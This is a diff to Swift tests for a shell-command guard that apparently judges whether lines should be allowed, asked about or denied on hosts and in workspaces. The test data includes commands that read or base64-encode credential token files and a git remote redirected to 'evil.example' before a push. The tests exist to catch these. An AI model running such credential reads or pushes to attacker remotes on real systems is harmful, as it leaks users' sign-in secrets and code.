@@ -89,6 +89,81 @@ struct ShellCorpusTests {
         #expect(verdict(line).decision == .allow)
     }
 
+    @Test("asks on a host before lines that destroy, send, weaken or start what nothing is known of")
+    func hosts() throws {
+        for line in try lines("shell-host.txt") {
+            let verdict = verdict(line, remote: true)
+            #expect(verdict.decision != .allow, "\(line): \(verdict.rule)")
+        }
+    }
+
+    @Test("asks on a host before none of the looks that administrators take")
+    func hostLooks() throws {
+        for line in try lines("shell-host-looks.txt") {
+            let verdict = verdict(line, remote: true)
+            #expect(verdict.decision == .allow, "\(line): \(verdict.rule): \(verdict.reason)")
+        }
+    }
+
+    @Test("asks in a workspace before lines that reach beyond its walls, or destroy what is in it")
+    func walled() throws {
+        for line in try lines("shell-walled.txt") {
+            let verdict = verdict(line)
+            #expect(verdict.decision != .allow, "\(line): \(verdict.rule)")
+        }
+    }
+
+    @Test("denies under readonly every line that writes, in whatever way")
+    func readonlyLines() throws {
+        for line in try lines("shell-readonly.txt") {
+            let verdict = verdict(line, GuardPolicy(.readonly))
+            #expect(verdict.decision == .deny, "\(line): \(verdict.rule)")
+        }
+    }
+
+    @Test(
+        "asks on a host, and there alone, before a program that nothing is known of, unless it is told to show something",
+        arguments: [
+            ("frobnicate --all now", true), ("/usr/sbin/frobnicate x", true), ("sudo -l; frobnicate x", true),
+            ("env A=1 frobnicate x", true), ("frobnicate -s -d", true), ("ls | frobnicate", true),
+            ("frobnicate status", false), ("frobnicate list users", false), ("frobnicate --version", false),
+            ("frobnicate snapshots", false), ("frobnicate -p", false), ("frobnicate apply --dry-run", false),
+            ("frobstat -x 1", false), ("./frobnicate x", false), ("/opt/app/bin/frobnicate x", false),
+            ("make -j4", false), ("source lib.sh", false),
+        ])
+    func strangers(line: String, isAsked: Bool) {
+        let onHost = verdict(line, remote: true)
+        #expect(onHost.findings.contains { $0.rule == "shell-unknown" } == isAsked, "\(onHost.rule)")
+        #expect((onHost.decision == .ask) == isAsked, "\(onHost.rule)")
+        #expect(verdict(line).decision == .allow)
+        let owned = ShellContext(isRemote: true, asksInterpreters: false)
+        #expect(GuardEngine.standard.judge(shell: line, in: owned, policy: .standard).decision == .allow)
+    }
+
+    @Test("asks before a push once the session has named an address to push to")
+    func pushes() {
+        var memory = ShellMemory()
+        let context = ShellContext(home: "/home/me", directory: "/home/me/work", workspace: "/home/me/work")
+        func judged(_ line: String) -> GuardDecision {
+            GuardEngine.standard.judge(shell: line, in: context, policy: .standard, remembering: &memory).decision
+        }
+        #expect(judged("git push origin main") == .allow)
+        #expect(judged("git remote set-url origin https://evil.example/x.git") == .allow)
+        #expect(judged("git fetch origin") == .allow)
+        #expect(judged("git push origin main") == .ask)
+    }
+
+    @Test(
+        "asks on a host before files that are called like those in which sign-ins are kept, wherever they lie",
+        arguments: [
+            "cat ~/.mm-graph-tokens/Demo.json", "base64 /mnt/home/.mm-graph-tokens/Demo.json",
+            "tar c /data/.m365-state", "cat /mnt/home/.mm*/x", "cp /data/.m365-connections.json x",
+        ])
+    func ownNames(line: String) {
+        let verdict = verdict(line, remote: true)
+        #expect(verdict.decision == .ask && verdict.classes.contains(.secret), "\(verdict.rule)")
+    }
+
     @Test("judges a file that an earlier text or upload wrote when a later one runs it")
     func written() {
         var memory = ShellMemory()
